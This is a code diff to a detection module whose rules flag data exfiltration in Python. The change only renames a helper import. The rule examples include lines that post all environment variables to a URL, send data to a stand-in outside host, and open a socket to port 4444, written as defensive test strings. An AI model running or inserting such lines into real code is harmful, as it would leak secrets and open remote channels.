@@ -2,7 +2,7 @@ import { carriesSecret, packs, readsSecret } from "../flow.js";
 import { bringsData, destinationOf } from "../network.js";
 import type { SyntaxNode } from "../node.js";
 import { globalPath } from "../read.js";
-import { type SyntaxRule, types, weights } from "../rule.js";
+import { nodeTypes, type SyntaxRule, weights } from "../rule.js";
 import type { Syntax } from "../syntax.js";
 
 const family = "data_exfiltration";
@@ -31,7 +31,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     catches: "sends what it read where secrets are kept",
     triggers: "import os, requests; requests.post(url, json=dict(os.environ))",
     ignores: "import os, requests; requests.get(url, headers={'Authorization': os.environ['API_TOKEN']})",
-    on: types("CallExpression"),
+    on: nodeTypes("CallExpression"),
     matches: (node, _index, syntax) =>
       senders.test(pathOf(node, syntax)) &&
       (node.arguments as unknown[]).some((argument) => carriesSecret(argument, syntax)),
@@ -43,7 +43,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     catches: "sends data to a fixed address elsewhere",
     triggers: "import httpx; httpx.post('https://elsewhere.example/', json=data)",
     ignores: "import httpx; httpx.post('http://localhost:8000/', json=data)",
-    on: types("CallExpression"),
+    on: nodeTypes("CallExpression"),
     matches: (node, _index, syntax) =>
       senders.test(pathOf(node, syntax)) &&
       destinationOf(node, syntax) === "elsewhere" &&
@@ -56,7 +56,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     catches: "opens a channel to somewhere else",
     triggers: "import socket; s = socket.socket(); s.connect(('203.0.113.9', 4444))",
     ignores: "import socket; s = socket.socket(); s.connect(('127.0.0.1', 8080))",
-    on: types("CallExpression"),
+    on: nodeTypes("CallExpression"),
     matches: (node, _index, syntax) => {
       const path = pathOf(node, syntax);
       if (lookups.test(path)) return isComposed((node.arguments as unknown[])[0]);
@@ -71,7 +71,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     catches: "talks to the network",
     triggers: "import requests; requests.get('https://elsewhere.example/' + name)",
     ignores: "requests = load(); requests.get('name')",
-    on: types("CallExpression"),
+    on: nodeTypes("CallExpression"),
     matches: (node, _index, syntax) => senders.test(pathOf(node, syntax)) && destinationOf(node, syntax) !== "here",
   },
   {
@@ -81,7 +81,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     catches: "reads where secrets are kept",
     triggers: "import os; send(dict(os.environ))",
     ignores: "import os; send(os.environ['PORT'])",
-    on: types("Identifier", "MemberExpression", "Literal", "CallExpression"),
+    on: nodeTypes("Identifier", "MemberExpression", "Literal", "CallExpression"),
     matches: (_node, index, syntax) => readsSecret(index, syntax),
   },
 ];
